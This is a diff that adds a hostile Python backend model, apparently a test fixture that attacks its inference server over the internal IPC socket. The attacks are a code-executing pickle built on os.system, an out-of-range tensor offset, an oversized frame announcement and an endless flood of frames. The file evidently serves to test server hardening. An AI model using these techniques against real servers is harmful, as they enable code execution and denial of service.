@@ -1,0 +1,66 @@
+"""Attacks the server through its own instance channel, as compromised model code could.
+
+INPUT0[0] picks the attack, written raw onto the socket that links this instance process
+to the server (its only socket): 0 answers OUTPUT0 = [pid of this process]; 1 a pickle
+that would run code in the server; 2 a call whose tensors lie at an offset of 2**40 in
+the arena; 3 a frame announcing 4 GiB; 4 a thread sending tiny valid frames forever.
+"""
+
+import os
+import pickle
+import stat
+import threading
+import time
+
+import msgpack
+import numpy as np
+
+import triton_python_backend_utils as pb_utils
+
+
+class _Payload:
+    def __reduce__(self):
+        return (os.system, ("touch /tmp/tritium-hostile-pickle-ran",))
+
+
+def _channel():
+    for name in os.listdir("/proc/self/fd"):
+        try:
+            if stat.S_ISSOCK(os.fstat(int(name)).st_mode):
+                return int(name)
+        except OSError:
+            continue
+    raise RuntimeError("no channel socket")
+
+
+def _frame(body):
+    return len(body).to_bytes(4, "little") + body
+
+
+def _flood(fd):
+    frame = _frame(msgpack.packb([15, 999_999])) * 256  # CallCancel of no call
+    while True:
+        os.write(fd, frame)
+
+
+ATTACKS = {
+    1: lambda fd: os.write(fd, _frame(pickle.dumps((14, _Payload())))),
+    2: lambda fd: os.write(fd, _frame(msgpack.packb(
+        [14, 424242, "log", None, [1 << 40, [["x", 8, [4], 0, 16]], None], []]))),
+    3: lambda fd: os.write(fd, ((4 << 30) - 1).to_bytes(4, "little") + b"\0" * 4096),
+    4: lambda fd: threading.Thread(target=_flood, args=(fd,), daemon=True).start(),
+}
+
+
+class TritonPythonModel:
+    def execute(self, requests):
+        responses = []
+        for request in requests:
+            mode = int(pb_utils.get_input_tensor_by_name(request, "INPUT0").as_numpy()[0])
+            if mode in ATTACKS:
+                ATTACKS[mode](_channel())
+                if mode != 4:
+                    time.sleep(30)  # the server ends this process first
+            out = pb_utils.Tensor("OUTPUT0", np.array([os.getpid()], dtype=np.float32))
+            responses.append(pb_utils.InferenceResponse(output_tensors=[out]))
+        return responses
